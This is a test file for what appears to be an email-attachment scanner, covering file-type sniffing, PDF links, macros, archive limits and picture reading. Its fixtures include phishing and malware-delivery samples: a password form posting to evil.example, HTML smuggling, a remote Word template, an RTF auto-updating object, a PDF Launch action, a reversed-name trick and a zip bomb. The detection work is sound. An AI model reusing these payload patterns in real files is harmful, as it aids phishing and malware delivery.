import fc from 'fast-check';
import { deflateSync, gzipSync, zipSync, zlibSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { CompoundFile } from './compound.ts';
import { kindOf } from './kind.ts';
import { decompressed, macrosOf } from './macros.ts';
import { lookThroughPdf } from './pdf.ts';
import { drawn, joinedPictures, lettersAsPicture, readPng, svgAsPicture } from './picture.ts';
import { type OpenLimits, Search } from './search.ts';
import { inflated, unpacked, zipMembers } from './zip.ts';

const LIMITS: OpenLimits = { depth: 4, files: 50, fileBytes: 1_000_000, bytes: 3_000_000, pictures: 4 };
const text = (value: string): Uint8Array => Buffer.from(value, 'latin1');

async function codesOf(name: string, bytes: Uint8Array, password?: string): Promise<string[]> {
  const search = new Search({ recipients: [], sender: 'sender.example', password }, undefined, LIMITS);
  await search.lookInto(name, bytes);
  return search.signals.map(({ code }) => code);
}

describe('what a file is', () => {
  it.each([
    ['program', 'a.pdf', text('MZ\x90\x00')],
    ['shortcut', 'a.txt', Buffer.from('4c0000000114020000000000c000000000000046', 'hex')],
    ['zip', 'a.docx', zipSync({ 'a.txt': text('a') })],
    ['pdf', 'a', text('\n%PDF-1.4\n')],
    ['html', 'scan.pdf', text('<!DOCTYPE html><html><body>')],
    ['svg', 'a.svg', text('<?xml version="1.0"?><svg xmlns="x">')],
    ['calendar', 'invite', text('BEGIN:VCALENDAR\r\n')],
    ['disk-image', 'a.bin', Buffer.concat([Buffer.alloc(0x8001), text('CD001')])],
    ['script', 'run.js', text('alert(1)')],
    ['text', 'notes.txt', text('plain words')],
    ['empty', 'x', new Uint8Array()],
  ])('is told by its bytes first: %s', (kind, name, bytes) => {
    expect(kindOf(bytes, name)).toBe(kind);
  });
});

describe('what a file is told for', () => {
  it.each([
    ['a program by its bytes', 'report.pdf', text('MZ and more'), ['file-program', 'file-other-kind']],
    ['a script by its name', 'invoice.pdf.js', text('var a;'), ['file-program']],
    ['a name that turns', 'invoice\u202efdp.exe', text('x'), ['file-name-turned', 'file-program']],
    ['a page that says it is a picture', 'scan.png', text('<html><body>hi'), ['file-other-kind']],
    [
      'a page that builds a file',
      'a.html',
      text('<html><script>var b=new Blob([atob("AAAA")]);l.href=URL.createObjectURL(b)</script>'),
      ['file-builds-file'],
    ],
    [
      'the same, hidden in pieces',
      'a.html',
      text('<html><script>x=w["at"+"ob"](s);w.URL["create"+"ObjectURL"](o)</script>'),
      ['file-builds-file'],
    ],
    [
      'a page that asks for a password',
      'a.htm',
      text('<html><form action="https://evil.example/x"><input type="password"></form>'),
      ['file-asks-password'],
    ],
    [
      'a picture that runs',
      'a.svg',
      text('<svg><script>location="https://evil.example"</script></svg>'),
      ['file-picture-runs'],
    ],
    [
      'a program in a zip in a zip',
      'a.zip',
      zipSync({ 'b.zip': zipSync({ 'c.exe': text('MZ') }) }),
      ['file-program'],
    ],
    [
      'a template from elsewhere',
      'a.docx',
      zipSync({
        '[Content_Types].xml': text('<x/>'),
        'word/document.xml': text('<w:p/>'),
        'word/_rels/settings.xml.rels': text(
          '<Relationships><Relationship Id="r" Type="http://x/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>',
        ),
      }),
      ['file-loads-remote'],
    ],
    [
      'an object of RTF that updates itself',
      'a.doc',
      text('{\\rtf1{\\object\\objupdate}}'),
      ['file-runs-command'],
    ],
    [
      'a PDF that starts something',
      'a.pdf',
      text('%PDF-1.4\n1 0 obj <</OpenAction <</S /Launch /F (x)>> >> endobj'),
      ['file-runs-command'],
    ],
    [
      'an invitation with a link',
      'a.ics',
      text('BEGIN:VCALENDAR\r\nDESCRIPTION:Join: https://evil.ex\r\n ample/x\r\nEND:VCALENDAR'),
      ['calendar-link'],
    ],
    ['an archive that nobody opens', 'a.rar', Buffer.from('526172211a0700', 'hex'), ['file-unopened']],
  ])('%s', async (_what, name, bytes, codes) => {
    expect(await codesOf(name, bytes)).toEqual(codes);
  });

  it('nothing, where it is an ordinary file', async () => {
    const word = {
      '[Content_Types].xml': text('<x/>'),
      'word/document.xml': text('<w:p><w:t>Hello</w:t></w:p>'),
    };
    for (const [name, bytes] of [
      ['notes.txt', text('Dear all')],
      ['agenda.docx', zipSync(word)],
      ['list.html', text('<html><table><tr><td>1</td></tr></table></html>')],
      ['scan.pdf', text('%PDF-1.4\n1 0 obj <</Type /Page>> endobj')],
      ['logo.svg', text('<svg><rect width="1" height="1"/></svg>')],
      ['papers.zip', zipSync({ 'a.txt': text('a'), 'agenda.docx': zipSync(word) })],
    ] as const)
      expect(await codesOf(name, bytes), name).toEqual([]);
  });
});

describe('a document whose one link is all there is', () => {
  const pdf = (url: string, words: string): Uint8Array =>
    text(
      `%PDF-1.4\n1 0 obj <</A <</S /URI /URI (${url})>> >> endobj\n2 0 obj <<>> stream\nBT (${words}) Tj ET\nendstream endobj`,
    );

  it('is a door where it leads elsewhere, and none where it leads to its sender', async () => {
    expect(await codesOf('Invoice.pdf', pdf('https://evil.example/x', 'VIEW DOCUMENT'))).toContain(
      'file-link-only',
    );
    expect(await codesOf('Invoice.pdf', pdf('https://www.sender.example/x', 'VIEW DOCUMENT'))).toEqual([]);
    const many = await codesOf('Paper.pdf', pdf('https://elsewhere.example/x', 'word '.repeat(100)));
    expect(many).toEqual(['file-link-elsewhere']);
  });

  it('is read in streams that are packed, and with brackets in the link', () => {
    const content = zlibSync(text('BT (One \\(two\\)) Tj [(th) -3 (ree)] TJ ET'));
    const objects = zlibSync(
      text('<</URI (https://a.example/\\(x\\))>> <</URI <68747470733a2f2f622e6578616d706c652f>>>'),
    );
    const bytes = Buffer.concat([
      text('%PDF-1.5\n1 0 obj <</Filter /FlateDecode>> stream\n'),
      content,
      text('\nendstream endobj 2 0 obj <</Type /ObjStm /Filter /FlateDecode>> stream\n'),
      objects,
      text('\nendstream endobj'),
    ]);
    expect(lookThroughPdf(bytes)).toMatchObject({
      links: ['https://a.example/(x)', 'https://b.example/'],
      text: 'One (two)\nthree\n',
    });
  });
});

describe('macros', () => {
  it('are unpacked as they were packed: literal bytes and copies ([MS-OVBA] 3.2)', () => {
    // The example of the specification: "#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa".
    const container = Buffer.from(
      '012fb000236161616263646582660070616768696a01386161616b6c003061616d6e6f7006710270042073741075767778797a003c6161',
      'hex',
    );
    const [text] = [decompressed(container).toString('latin1')];
    expect(text.startsWith('#aaabcdef')).toBe(true);
  });

  it('of what is no compound file are none, whatever its bytes', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 3_000 }), (bytes) => {
        const file = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), bytes]);
        expect(() => macrosOf(file)).not.toThrow();
        expect(new CompoundFile(file).entries.length).toBeLessThanOrEqual(4_096);
        expect(() => decompressed(Buffer.from(bytes))).not.toThrow();
      }),
    );
  });
});

describe('archives', () => {
  it('give their members back, whatever is in them', () => {
    fc.assert(
      fc.property(
        fc.dictionary(fc.stringMatching(/^[a-z]{1,8}\.txt$/), fc.uint8Array({ maxLength: 500 }), {
          maxKeys: 6,
        }),
        (files) => {
          const bytes = zipSync(files);
          const members = zipMembers(bytes)!;
          expect(members.map(({ name }) => name).sort()).toEqual(Object.keys(files).sort());
          for (const member of members)
            expect(Buffer.from(unpacked(bytes, member, 1_000)!)).toEqual(Buffer.from(files[member.name]!));
        },
      ),
    );
  });

  it('unpack no more than is allowed: a bomb is left out, and said to be', async () => {
    const bomb = new Uint8Array(50_000_000);
    expect(inflated(deflateSync(bomb), 10_000)!.length).toBeLessThanOrEqual(10_000);
    const packed = zipSync({ 'zeros.bin': bomb });
    const search = new Search({ recipients: [], sender: '', password: undefined }, undefined, LIMITS);
    await search.lookInto('bomb.zip', packed);
    expect(search.unopened).toEqual(['bomb.zip/zeros.bin']);
    let nested = zipSync({ 'a.txt': text('a') });
    for (let depth = 0; depth < 12; depth++) nested = zipSync({ 'inner.zip': nested });
    const deep = new Search({ recipients: [], sender: '', password: undefined }, undefined, LIMITS);
    await deep.lookInto('deep.zip', nested);
    expect(deep.unopened).toHaveLength(1);
    expect(deep.files.length).toBeLessThanOrEqual(6);
    const wide = zipSync(
      Object.fromEntries(Array.from({ length: 400 }, (_, at) => [`${at}.txt`, text(String(at))])),
    );
    const many = new Search({ recipients: [], sender: '', password: undefined }, undefined, LIMITS);
    await many.lookInto('wide.zip', wide);
    expect(many.files.length).toBe(LIMITS.files);
  });

  it('that are locked weigh more with their password beside them', async () => {
    const locked = Buffer.from(zipSync({ 'a.txt': text('abc') }));
    // The flag of locked members, in both headers.
    locked[6] = 1;
    locked[locked.indexOf(Buffer.from('504b0102', 'hex')) + 8] = 1;
    expect(await codesOf('a.zip', locked)).toEqual(['file-locked']);
    expect(await codesOf('a.zip', locked, '1234')).toEqual(['file-locked-password']);
  });
});

describe('pictures', () => {
  it('are read from PNG as they were written, by line filters too', () => {
    const chunk = (kind: string, data: Uint8Array): Buffer => {
      const head = Buffer.alloc(8);
      head.writeUInt32BE(data.length);
      head.write(kind, 4, 'latin1');
      return Buffer.concat([head, data, Buffer.alloc(4)]);
    };
    const size = Buffer.from('00000004000000030800000000', 'hex');
    // Filters: none, the byte to the left, the byte above.
    const lines = Buffer.from([0, 1, 2, 3, 4, 1, 5, 1, 1, 1, 2, 1, 1, 1, 1]);
    const png = Buffer.concat([
      Buffer.from('89504e470d0a1a0a', 'hex'),
      chunk('IHDR', size),
      chunk('IDAT', zlibSync(lines)),
      chunk('IEND', Buffer.alloc(0)),
    ]);
    expect(readPng(png)).toEqual({
      width: 4,
      height: 3,
      grey: Uint8Array.from([1, 2, 3, 4, 5, 6, 7, 8, 6, 7, 8, 9]),
    });
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 200 }), (bytes) => {
        expect(() => readPng(Buffer.concat([png.subarray(0, 40), bytes]))).not.toThrow();
      }),
    );
  });

  it('are put together where a side is as long', () => {
    const one = { width: 2, height: 1, grey: Uint8Array.from([1, 2]) };
    expect(
      joinedPictures(one, { width: 2, height: 1, grey: Uint8Array.from([3, 4]) }).map(({ grey }) => [
        ...grey,
      ]),
    ).toEqual([
      [1, 2, 3, 4],
      [1, 2, 3, 4],
    ]);
    expect(joinedPictures(one, { width: 3, height: 2, grey: new Uint8Array(6) })).toEqual([]);
  });

  it('of letters and of squares are drawn alike', () => {
    const dark = new Set<number>();
    const squares: string[] = [];
    for (let y = 0; y < 24; y++)
      for (let x = 0; x < 24; x++)
        if ((x * 7 + y * 3) % 5 < 2 || x === 0 || x === 23 || y === 0 || y === 23) {
          dark.add(y * 24 + x);
          squares.push(`M${x} ${y}h1v1h-1z`);
        }
    const whole = drawn(dark, 24, 24);
    expect(svgAsPicture(`<svg><path d="${squares.join('')}"/></svg>`)).toEqual(whole);
    const lines = Array.from({ length: 12 }, (_, line) =>
      Array.from(
        { length: 24 },
        (_, x) => ' ▀▄█'[(dark.has(2 * line * 24 + x) ? 1 : 0) + (dark.has((2 * line + 1) * 24 + x) ? 2 : 0)],
      ).join(''),
    );
    expect(lettersAsPicture(`Scan this:\n${lines.join('\n')}\nThanks`)).toEqual(whole);
    expect(lettersAsPicture('A line with █ in it')).toBeNull();
  });
});

describe('whatever comes in', () => {
  it('is never thrown at: mutations of files of all kinds', async () => {
    const files: Uint8Array[] = [
      zipSync({
        '[Content_Types].xml': text('<x/>'),
        'word/document.xml': text('<w:p><w:t>Hello</w:t></w:p>'),
        'word/vbaProject.bin': Buffer.alloc(600, 7),
      }),
      text('%PDF-1.4\n1 0 obj <</URI (https://a.example)>> stream\nBT (x) Tj ET\nendstream endobj'),
      text('<html><script>atob(1)</script><form><input type=password>'),
      text('BEGIN:VCALENDAR\r\nURL:https://a.example\r\n'),
      gzipSync(text('abc')),
    ];
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...files),
        fc.array(fc.tuple(fc.nat(), fc.nat(255)), { maxLength: 12 }),
        fc.nat(),
        async (file, changes, cut) => {
          const bytes = Uint8Array.from(file);
          for (const [at, value] of changes) bytes[at % bytes.length] = value;
          const search = new Search(
            { recipients: ['a@b.example'], sender: 'b.example', password: '1' },
            undefined,
            LIMITS,
          );
          await search.lookInto('file', bytes.subarray(0, 1 + (cut % bytes.length)));
          expect(search.files.length).toBeGreaterThan(0);
        },
      ),
      { numRuns: 1_000 },
    );
  });
});
